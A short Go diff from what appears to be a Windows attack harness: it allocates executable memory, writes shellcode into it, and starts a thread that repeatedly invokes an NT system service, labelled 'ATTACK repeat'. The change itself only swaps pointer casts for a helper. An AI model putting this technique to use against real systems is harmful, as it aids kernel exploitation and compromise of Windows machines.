@@ -26,10 +26,10 @@ type repeater struct {
 func repeat(service nt.Service, most uint64, want nt.Status, a, b, c, d uint64) repeater {
 	code, _, _ := ntdll.NtAllocateVirtualMemory(nt.CurrentProcess, 0, 0x10000, nt.MemReserve|nt.MemCommit, nt.PageExecuteReadWrite)
 	ntdll.NtWriteVirtualMemory(nt.CurrentProcess, code, repeatCode)
-	w := (*[16]uint64)(unsafe.Pointer(uintptr(code + 0x1000)))
+	w := (*[16]uint64)(memory(code + 0x1000))
 	*w = [16]uint64{uint64(service), a, b, c, d, 0, most, 0, 0, uint64(want), ^uint64(1 << 40)}
 	x := nt.Context{Rip: code, Rbx: code + 0x1000, Rsp: code + 0xF000}
-	*(*byte)(unsafe.Pointer(uintptr(code + 0xEFFF))) = 0
+	*(*byte)(memory(code + 0xEFFF)) = 0
 	h, _, s := ntdll.NtCreateThread(nt.CurrentProcess, &x, &ntdll.InitialTeb{}, true)
 	if !s.OK() {
 		fmt.Println("ATTACK repeat:", s)
